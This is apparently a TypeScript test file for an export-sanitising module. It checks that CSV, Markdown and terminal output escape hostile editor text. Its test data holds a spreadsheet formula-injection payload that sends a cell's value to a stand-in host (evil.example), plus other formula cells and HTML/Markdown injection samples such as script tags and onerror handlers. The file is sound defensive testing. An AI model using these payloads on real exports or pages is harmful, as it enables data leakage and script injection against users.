/**
 * gateway/client/safe-export.ts, the one module every export writes editors' text through
 * (issue 13, finding 3): CSV cells a spreadsheet will not run, Markdown that renders as the text
 * written (checked with a real CommonMark renderer), terminal text without control sequences.
 */
import { parse } from "csv-parse/sync";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { csv, markdownText, plainText } from "../gateway/client/safe-export";

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C3,"Open")';
/** every cell start OWASP lists, their full-width forms, and the rest of what an editor could type */
const FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"];

describe("csv()", () => {
  it("prefixes every formula-like text cell with ' and quotes every cell, so a spreadsheet reads text", () => {
    const text = csv([["title"], ...FORMULAS.map((f) => [f])]);
    const cells = (parse(text, { relax_quotes: false }) as string[][]).slice(1).map((row) => row[0]);
    expect(cells).toEqual(FORMULAS.map((f) => `'${f}`));
    for (const line of text.trimEnd().split("\n").slice(1)) expect(line.startsWith("\"'"), line).toBe(true);
  });

  it("keeps numbers (a negative one too), empty cells, quotes, commas and bare carriage returns inside their cell", () => {
    const text = csv([["a", "b", "c", "d", "e"], [-1.5, null, 'say "hi", then', "line\rbreak", 0]]);
    expect(text).toBe('"a","b","c","d","e"\n"-1.5",,"say ""hi"", then","line\rbreak","0"\n');
    expect(parse(text)).toEqual([["a", "b", "c", "d", "e"], ["-1.5", "", 'say "hi", then', "line\rbreak", "0"]]);
  });

  it("leaves ordinary text as it is", () => {
    expect(parse(csv([["Stockton-on-Tees", "Children's Services (2025-2028)"]]))).toEqual([["Stockton-on-Tees", "Children's Services (2025-2028)"]]);
  });
});

describe("markdownText()", () => {
  const commonMark = new MarkdownIt({ html: true });
  const hostile = [
    "[Open](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "[Open][ref]\n\n[ref]: https://evil.example",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='https://evil.example'>Open</a>",
    "&lt;script&gt;",
    HYPERLINK,
  ];

  it("renders links, images, autolinks and HTML as the characters written, in a table cell and in a list item", () => {
    for (const text of hostile) {
      for (const markdown of [`| a |\n| --- |\n| ${markdownText(text)} |`, `- ${markdownText(text)}`, `# ${markdownText(text)}`]) {
        const html = commonMark.render(markdown);
        expect(html, `${text} -> ${markdown}`).not.toMatch(/<a |<img|<script|<(?!\/?(table|thead|tbody|tr|th|td|ul|li|h1|p)\b)[a-z]/i);
        // what a reader sees is what the editor wrote (one line)
        const shown = html.replace(/<[^>]+>/g, "").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&").trim();
        expect(shown.replace(/^a\s+/, ""), markdown).toBe(text.replace(/\n/g, " "));
      }
    }
  });

  it("keeps a cell one cell and one line, and a leading list or heading marker plain", () => {
    expect(markdownText("a | b\nc")).toBe("a \\| b c");
    for (const text of ["# heading", "- item", "+ item", "1. item", "3) item", "= underline"]) {
      const html = commonMark.render(`- ${markdownText(text)}`);
      expect(html, text).toBe(`<ul>\n<li>${text}</li>\n</ul>\n`);
    }
    // a number is not a list marker, and is left alone
    expect(markdownText("68.1 (2023/24), rank 3/150")).toBe("68.1 (2023/24), rank 3/150");
    expect(markdownText("Stockton-on-Tees")).toBe("Stockton-on-Tees");
  });
});

describe("plainText()", () => {
  it("turns control characters (terminal escape sequences, line breaks) into spaces", () => {
    expect(plainText("\u001b[31mred\u001b[0m\nnext\u2028line\u009b2J")).toBe(" [31mred [0m next line 2J");
  });
});
